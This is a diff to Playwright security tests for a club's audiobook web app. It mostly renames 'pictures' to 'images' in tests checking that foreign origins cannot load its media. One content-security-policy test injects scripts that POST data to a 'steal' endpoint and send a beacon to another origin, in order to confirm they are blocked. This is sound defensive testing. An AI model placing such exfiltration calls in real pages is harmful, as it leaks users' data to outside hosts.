@@ -5,8 +5,8 @@ import type { BrowserContext, Frame, Page } from "playwright-core";
 import { sessionCookie } from "#tests/screens/screens.ts";
 import { openBrowser } from "#tests/support/browser.ts";
 import { ADMIN_PASSWORD, type RunningClub, startClub } from "#tests/support/executable.ts";
+import { png } from "#tests/support/images.ts";
 import { m4b } from "#tests/support/m4b.ts";
-import { png } from "#tests/support/pictures.ts";
 import { until } from "#tests/support/poll-until.ts";
 import { everyRow } from "#tests/support/stored-rows.ts";
 
@@ -163,11 +163,11 @@ test("reads and changes nothing by other sites' scripts (C01, X03)", async () =>
   expect(readRows()).toEqual(rowsBefore);
 });
 
-test("another site can't show our pictures or play audio (X03)", async () => {
+test("another site can't show our images or play audio (X03)", async () => {
   for (const address of otherOrigins) {
     const page = await visit(address);
     const outcomes = await page.evaluate(
-      async ({ pictures, sound }) => {
+      async ({ images, sound }) => {
         const awaitOutcome = (part: HTMLElement, loadEvent: string) =>
           new Promise<string>((resolve) => {
             part.addEventListener(loadEvent, () => resolve("seen"));
@@ -176,11 +176,11 @@ test("another site can't show our pictures or play audio (X03)", async () => {
         const image = document.createElement("img");
         const audio = document.createElement("audio");
         const loads = [awaitOutcome(image, "load"), awaitOutcome(audio, "loadedmetadata")];
-        image.src = pictures;
+        image.src = images;
         audio.src = sound;
         return Promise.all(loads);
       },
-      { pictures: club.url + cover, sound: `${club.url}/api/download/audiobook/1` },
+      { images: club.url + cover, sound: `${club.url}/api/download/audiobook/1` },
     );
     expect(outcomes, address).toEqual(["nothing", "nothing"]);
     await page.close();
@@ -229,8 +229,8 @@ test("injected markup doesn't run and isn't fetched (X02)", async () => {
   await page.getByRole("heading", { name: "Snacks & Drinks Board" }).waitFor();
   outsideRequests.length = 0;
   const outcome = await page.evaluate(async (scriptUrls) => {
-    const brokenPictures: string[] = [];
-    document.addEventListener("securitypolicyviolation", (event) => brokenPictures.push(event.effectiveDirective));
+    const brokenImages: string[] = [];
+    document.addEventListener("securitypolicyviolation", (event) => brokenImages.push(event.effectiveDirective));
     const script = document.createElement("script");
     script.textContent = "window.ran = true";
     const remoteScript = Object.assign(document.createElement("script"), { src: `${scriptUrls}x.js` });
@@ -251,7 +251,7 @@ test("injected markup doesn't run and isn't fetched (X02)", async () => {
     await fetch(`${scriptUrls}steal`, { method: "POST", body: "x" }).catch(() => undefined);
     navigator.sendBeacon(`${scriptUrls}beacon`, "x");
     await new Promise((resolve) => setTimeout(resolve, 300));
-    return { broken: [...new Set(brokenPictures)].toSorted(), ran: "ran" in globalThis, base: document.baseURI };
+    return { broken: [...new Set(brokenImages)].toSorted(), ran: "ran" in globalThis, base: document.baseURI };
   }, otherOrigins[0] ?? "");
   expect(outcome.ran).toBe(false);
   expect(outcome.base).toStartWith(club.url);
